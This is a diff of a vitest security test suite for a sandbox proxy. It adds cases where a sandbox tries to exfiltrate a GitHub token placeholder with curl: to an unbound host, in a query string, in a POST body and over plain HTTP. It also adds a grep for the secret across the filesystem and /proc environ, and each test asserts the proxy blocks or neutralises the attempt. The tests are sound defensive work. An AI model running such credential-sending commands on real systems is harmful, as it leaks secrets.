@@ -1,15 +1,19 @@
 import { describe, it, expect, beforeAll, afterAll } from 'vitest'
-import { existsSync, readdirSync, readFileSync, rmSync, mkdtempSync, writeFileSync } from 'node:fs'
+import { existsSync, readdirSync, readFileSync, rmSync, mkdtempSync, writeFileSync, mkdirSync } from 'node:fs'
 import { join } from 'node:path'
 import { tmpdir } from 'node:os'
 import { randomBytes } from 'node:crypto'
-import { cli, podman, uniqueName, podExists, TEST_HOME } from '../helpers/cli.js'
-import { attackImage, createSandbox, deleteSandboxes, sh, python, curlProxy, rawProxy, statuses, logs, expectLogged, Upstream, hostAddress, policyFile, writePolicyText } from '../helpers/attack.js'
+import { cli, podman, uniqueName, podExists, TEST_HOME, hostDir } from '../helpers/cli.js'
+import { attackImage, createSandbox, deleteSandboxes, sh, python, curlProxy, rawProxy, statuses, logs, expectLogged, Upstream, hostAddress, policyFile, writePolicyText, gatewayHosts } from '../helpers/attack.js'
+import { TlsUpstream } from '../helpers/tls-upstream.js'
 
 /**
  * Credentials and policy attacks (catalogue 53–58). A provider holds a random credential; the
  * sandbox gets it as an environment variable (`--credential-mode env`, the escape hatch: the worst
- * case; the default placeholder mode is attacked in credentials-placeholder.test.ts). The attacks
+ * case). A second sandbox gets the same provider in the default placeholder mode (issue 12): the
+ * exfiltration cases then send the placeholder to an allowed but unbound host, in a query to the
+ * bound host's other path, in a body without opt-in and over plain HTTP, against an HTTPS upstream
+ * that records what reached it (more in credentials-placeholder.test.ts). The attacks
  * try to find it where it must not be (files, logs, podshell's output), to send it where the
  * policy does not allow, to point the sandbox at another proxy or identity, to edit the policy from
  * inside, and to get a sandbox with a misspelled (fail-open) policy.
@@ -247,5 +251,106 @@ describe('#58 fail open on a bad policy', () => {
     expect(after.status).toBe(403)
     const ok = await curlProxy(name, up.url('/t/after-bad-set'))
     expect(ok.status).toBe(200)
+  })
+})
+
+/**
+ * Placeholder mode (the default, issue 12). The policy allows bound.atk.test (its /api/** bound to
+ * the provider with `credential_binding`, every other path allowed but unbound), other.atk.test
+ * (allowed, unbound) and the plain-HTTP upstream; all resolve to the test address in the gateway.
+ */
+describe('#54 sending the credential out, placeholder mode (default)', () => {
+  let tup: TlsUpstream
+  let ph = ''
+  const url = (host: string, path: string) => `https://${host}:${tup.port}${path}`
+  const curl = (args: string) => sh(ph, `curl -sS --max-time 10 -w '\\n%{http_code}' ${args}`)
+  const reached = () => tup.requests.filter(r => JSON.stringify(r).includes(VALUE)).map(r => r.url)
+
+  beforeAll(async () => {
+    const dir = hostDir('atkph')
+    tup = await TlsUpstream.start({ dir, caName: 'attack-creds upstream CA' })
+    const cfg = join(dir, 'cfg')
+    mkdirSync(join(cfg, 'podshell'), { recursive: true })
+    writeFileSync(join(cfg, 'podshell', 'config.yaml'), `tls:\n  extra_ca_files:\n    - ${tup.caFile}\n`)
+    const ip = `[${H}/32]`
+    const policy = writePolicyText(`version: 1
+network_policies:
+  api:
+    name: api
+    endpoints:
+      - { host: bound.atk.test, port: ${tup.port}, protocol: rest, access: full, path: "/api/**", credential_binding: { provider: ${provider} }, allowed_ips: ${ip} }
+      - { host: bound.atk.test, port: ${tup.port}, protocol: rest, access: full, allowed_ips: ${ip} }
+      - { host: other.atk.test, port: ${tup.port}, protocol: rest, access: full, allowed_ips: ${ip} }
+      - { host: ${H}, port: ${up.port} }
+`)
+    ph = uniqueName('credsph')
+    const r = await cli(['sandbox', 'create', '--name', ph, '--from', image, '--provider', provider, '--policy', policy, '--detach'], { env: { XDG_CONFIG_HOME: cfg } })
+    expect(r.code, r.stderr).toBe(0)
+    made.push(ph)
+    await gatewayHosts([
+      [H, 'bound.atk.test'],
+      [H, 'other.atk.test'],
+    ])
+  })
+
+  afterAll(async () => {
+    await tup?.close()
+  })
+
+  it('#53 placeholder mode: look for the real value in every file and every /proc/*/environ inside → only a same-shaped placeholder, the value nowhere', async ({ task }) => {
+    const r = await sh(ph, `printf '%s\\n' "$GITHUB_TOKEN"; grep -rlF '${VALUE}' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -cF '${VALUE}'; echo END`)
+    const [placeholder, ...rest] = r.stdout.trim().split('\n')
+    task.meta.observed = `agent holds ${placeholder!.slice(0, 4)}… (${placeholder!.length} chars); files/environ holding the value: ${rest.join(' ')}`
+    expect(placeholder).toMatch(/^ghp_[A-Za-z0-9]+$/)
+    expect(placeholder).toHaveLength(VALUE.length)
+    expect(placeholder).not.toBe(VALUE)
+    expect(rest).toEqual(['0', 'END'])
+  })
+
+  it('#54 control: the placeholder in Authorization to the bound endpoint → substituted, the upstream gets the real value', async ({ task }) => {
+    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" ${url('bound.atk.test', '/api/control')}`)
+    task.meta.observed = r.stdout.replace('\n', ' ')
+    expect(r.stdout).toBe('upstream-ok\n200')
+    expect(reached()).toEqual(['/api/control'])
+  })
+
+  it('#54 send the placeholder to an allowed but unbound host → 403 credential_endpoint_mismatch, nothing forwarded, logged', async ({ task }) => {
+    const r = await curl(`-H "Authorization: Bearer $GITHUB_TOKEN" ${url('other.atk.test', '/exfil-host')}`)
+    const [body, status] = r.stdout.split('\n')
+    task.meta.observed = `${status} ${body}`
+    expect(status).toBe('403')
+    expect(JSON.parse(body!)).toEqual({ error: 'credential_endpoint_mismatch', message: 'Credential is not authorized for this request endpoint' })
+    expect(tup.seen('/exfil-host')).toBe(0)
+    const line = await expectLogged(ph, /DENIED/, /other\.atk\.test/, /credential_endpoint_mismatch/)
+    expect(line).not.toContain(VALUE)
+  })
+
+  it("#54 send the placeholder in a query to the bound host's other path → 403 credential_endpoint_mismatch, nothing forwarded, logged", async ({ task }) => {
+    const r = await curl(`"${url('bound.atk.test', '/gists/exfil-query')}?t=$GITHUB_TOKEN"`)
+    task.meta.observed = r.stdout.split('\n')[1]
+    expect(r.stdout.split('\n')[1]).toBe('403')
+    expect(tup.seen('/gists/exfil-query')).toBe(0)
+    await expectLogged(ph, /DENIED/, /\/gists\/exfil-query/, /credential_endpoint_mismatch.*in query/)
+  })
+
+  it('#54 send the placeholder inside a request body to the bound endpoint (no request_body_credential_rewrite) → inert: the upstream gets the placeholder, never the value; logged', async ({ task }) => {
+    const r = await curl(`-X POST --data "token=$GITHUB_TOKEN" ${url('bound.atk.test', '/api/exfil-body')}`)
+    expect(r.stdout).toBe('upstream-ok\n200')
+    const got = tup.requests.find(q => q.url === '/api/exfil-body')!
+    task.meta.observed = `upstream got ${got.body.slice(0, 10)}… (not the value)`
+    expect(got.body).toMatch(/^token=ghp_[A-Za-z0-9]+$/)
+    expect(got.body).not.toContain(VALUE)
+    await expectLogged(ph, /POST/, /\/api\/exfil-body/)
+  })
+
+  it('#55 send the placeholder over plain HTTP to an allowed host → inert: never substituted, the upstream sees the placeholder; logged', async ({ task }) => {
+    const r = await sh(ph, `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GITHUB_TOKEN" "http://${H}:${up.port}/exfil-plain?t=$GITHUB_TOKEN"`)
+    expect(r.stdout).toBe('200')
+    const got = up.requests.find(q => q.url.startsWith('/exfil-plain'))!
+    task.meta.observed = `upstream got Authorization ${String(got.headers.authorization).slice(0, 11)}… (not the value)`
+    expect(String(got.headers.authorization)).toMatch(/^Bearer ghp_[A-Za-z0-9]+$/)
+    expect(JSON.stringify(got)).not.toContain(VALUE)
+    await expectLogged(ph, /\/exfil-plain/)
+    expect(await logs(ph)).not.toContain(VALUE)
   })
 })
